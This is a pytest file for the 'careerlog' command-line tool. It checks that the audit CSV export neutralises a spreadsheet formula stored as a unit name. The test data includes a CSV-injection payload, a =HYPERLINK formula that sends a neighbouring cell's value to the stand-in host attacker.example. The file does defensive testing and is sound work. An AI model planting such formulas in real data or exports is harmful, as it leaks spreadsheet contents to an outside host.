"""`careerlog audit ... --format csv` defuses recorded texts a spreadsheet would run as formulas, as the API's and
the pages' CSV do: an inspector's export, opened in a spreadsheet, showed a unit recorded as
`=HYPERLINK("http://...?d="&A1,"SK")` as a live link sending the cells beside it away. Both stores; the
terminal's table keeps the text as recorded."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from click.testing import CliRunner

from careerlog.application import CareerLog
from careerlog.cli import main
from tests import factories as f
from tests.conftest import projected

pytestmark = pytest.mark.made_store  # an empty PostgreSQL store made once and lent (tests/conftest.py)

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"SK")'
NIP = f.nip(date(1986, 9, 26), date(2010, 3, 1), "M", sequence=801)


def record(ledger: CareerLog) -> None:
    appointment = f.appointment(date(1986, 9, 26), date(2010, 3, 1), "M", unit=FORMULA)
    ledger.record(NIP, "appointment", appointment, actor="test")
    ledger.record(NIP, "rank_promotion", f.promotion("III/b", "2014-04-01"), actor="test")


def audit(database_url: str, *args: str) -> str:
    result = CliRunner().invoke(main, ["audit", *args], env={"CAREERLOG_DATABASE_URL": database_url})
    assert result.exit_code == 0, result.output
    return result.output


@pytest.mark.parametrize("listing", [(), ("--with-posts",)])
def test_an_audit_csv_defuses_a_recorded_formula(database_url: str, listing: tuple[str, ...]) -> None:
    with projected(database_url, record):
        text = audit(database_url, "promotions", *listing, "--format", "csv")
        table = audit(database_url, "promotions")
    # --with-posts: every audited decision, the CPNS appointment too (its unit the same)
    assert [row["unit"] for row in csv.DictReader(io.StringIO(text))] == ["'" + FORMULA] * (2 if listing else 1)
    assert FORMULA in table  # the terminal's table: as recorded
    assert "'" + FORMULA not in table
